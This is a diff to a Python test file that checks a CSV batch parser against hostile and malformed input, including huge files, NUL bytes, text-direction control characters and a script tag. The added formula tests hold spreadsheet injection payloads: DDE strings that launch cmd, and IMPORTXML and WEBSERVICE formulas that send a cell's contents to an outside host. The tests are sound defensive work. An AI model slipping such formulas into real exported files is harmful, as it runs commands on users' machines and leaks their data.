@@ -3,15 +3,17 @@
 from __future__ import annotations
 
 import csv
+import time
 from io import StringIO
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from animatic.batch import Row
+from animatic.batch import ROWS_MOST, Row, briefs
 from animatic.batch_csv import Parsed, as_csv, parse_csv
 from animatic.batch_file import BYTES_MOST
+from animatic.brief import Brief, complete
 from tests.batches import MODELS, PICTURED, parsed
 
 # ── reading: bytes ─────────────────────────────────────────────────────────────────────────────────────────
@@ -47,6 +49,7 @@ def test_what_spreadsheets_write_above_a_table_is_no_row():
     assert [row.number for row in parsed("sep=;", "model;prompt", "Kling V3;x").rows] == [2]
 
 
+@pytest.mark.hostile("CSV")
 @pytest.mark.parametrize(
     ("data", "sentence"),
     [
@@ -65,6 +68,47 @@ def test_a_file_that_is_no_table_is_refused_with_a_sentence(data: bytes, sentenc
     assert [one.words for one in parse_csv(data, MODELS).refusals] == [sentence]
 
 
+WILD = {
+    "NUL in a text": b"model,prompt\nKling V3,a\0b\n",
+    "nothing but NUL": bytes(50),
+    "UTF-32": "model,prompt\nKling V3,x".encode("utf-32"),
+    "half a surrogate pair": b"model,prompt\nKling V3,\xed\xa0\x80",
+    "two marks of order": b"\xef\xbb\xbf\xef\xbb\xbfmodel,prompt\nKling V3,x",
+    "a page": b"<html><script>alert(1)</script>",
+    "writing that turns round": "model,prompt\n\u202eKlong V3\u2066,x".encode(),
+    "a name that turns round": "model,\u202exyz\0\nKling V3,x".encode(),
+    "shorter rows": b"model,prompt,seconds\nKling V3\n\nKling V3,x\n",
+    "longer rows": b"model\n" + b"Kling V3,x,x\n" * 50,
+    "one name many times": b"model" + b",prompt" * 90 + b"\nKling V3" + b",x" * 90,
+    "lines alone": b"model,prompt\n" + b"\n" * 1_900_000,
+    "marks alone": b'"' * 1_900_000,
+    "commas alone": b"," * 1_900_000,
+    "very many rows": b"model,prompt\n" + b"Kling V3,x\n" * 170_000,
+    "very many wrong rows": b"model,prompt\n" + b"Klong V3,x\n" * 170_000,
+    "a cell that swallows the rest": b'model,prompt\nKling V3,"' + b"x,\n" * 600_000,
+}
+
+
+@pytest.mark.hostile("CSV")
+@pytest.mark.parametrize("data", WILD.values(), ids=list(WILD))
+def test_a_wild_file_is_read_or_refused_soon_and_in_words_that_can_be_read(data: bytes):
+    begun = time.process_time()
+    told = parse_csv(data, MODELS)
+    assert time.process_time() - begun < 10
+    assert told.rows or told.refusals
+    assert len(told.rows) + len(told.refusals) <= ROWS_MOST + 1
+    for refusal in told.refusals:
+        assert refusal.words.isprintable()
+        assert refusal.column.isprintable()
+        assert refusal.words.endswith((".", "?"))
+    for brief in briefs(told.rows, {}, MODELS):
+        if isinstance(brief, Brief):
+            model = next(one for one in MODELS if (one.provider, one.name) == (brief.provider, brief.model))
+            complete(brief, model).prompt.encode()
+            assert "\0" not in complete(brief, model).prompt
+
+
+@pytest.mark.hostile("CSV")
 @given(st.binary(max_size=300) | st.text(alphabet="model,;\"\t\n\r x='", max_size=200).map(str.encode))
 def test_no_file_raises_anything(data: bytes):
     for start in (b"", b"model,prompt\n", b"\xff\xfe"):
@@ -93,9 +137,17 @@ FORMULAS = (
     "\t=1",
     "';@1",
     "\0=1",
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=IMPORTXML("https://films.example/"&A1; "//a")',
+    '=WEBSERVICE("https://films.example/"&A1)',
+    "\r\n=1",
 )
 
 
+@pytest.mark.hostile("CSV")
 @pytest.mark.parametrize("cell", FORMULAS)
 def test_what_looks_like_a_formula_is_text_and_leaves_as_text(cell: str):
     row = Row(
@@ -107,6 +159,7 @@ def test_what_looks_like_a_formula_is_text_and_leaves_as_text(cell: str):
     assert parse_csv(written, MODELS) == Parsed((row,), ())
 
 
+@pytest.mark.hostile("CSV")
 @pytest.mark.parametrize("delimiter", [",", ";", "\t"])
 @pytest.mark.parametrize("cell", FORMULAS)
 def test_no_formula_begins_in_a_spreadsheet_that_separates_cells_otherwise(cell: str, delimiter: str):
